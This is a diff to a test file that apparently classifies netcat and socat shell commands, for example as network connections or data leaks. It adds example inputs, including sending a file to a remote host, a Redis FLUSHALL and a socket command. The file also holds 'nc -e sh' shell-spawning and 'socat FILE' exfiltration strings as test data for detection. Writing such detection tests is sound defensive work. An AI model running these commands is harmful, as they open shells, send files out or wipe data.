@@ -68,7 +68,14 @@ const talking = (): readonly Program[] => [
       {
         if: not(execs),
         does: connects,
-        hits: ["nc -zv host.test 443", "nc host.test 80"],
+        hits: [
+          "nc -zv host.test 443",
+          "nc host.test 80",
+          "nc host.test 80 <<< hello",
+          "nc host.test 80 < notes.txt",
+          "nc localhost 6379 <<< FLUSHALL",
+          "nc localhost 6379 <<< ping",
+        ],
         misses: ["nc -e sh host.test 1"],
       },
     ],
@@ -98,7 +105,12 @@ const talking = (): readonly Program[] => [
         hits: ["socat - TCP:localhost:80"],
       },
       { if: socatLeaks, does: "leak", hits: ["socat FILE:a TCP:host.test:80"], misses: ["socat - TCP:localhost:80"] },
-      { if: not(any(operand(socatRuns), socatLeaks)), does: tellsSocket, hits: ["socat stdio a.sock"] },
+      {
+        if: not(any(operand(socatRuns), socatLeaks)),
+        does: tellsSocket,
+        hits: ["socat stdio a.sock", "socat stdio a.sock <<< 'disable x'"],
+        misses: ["socat FILE:a TCP:host.test:80"],
+      },
     ],
   },
 ];
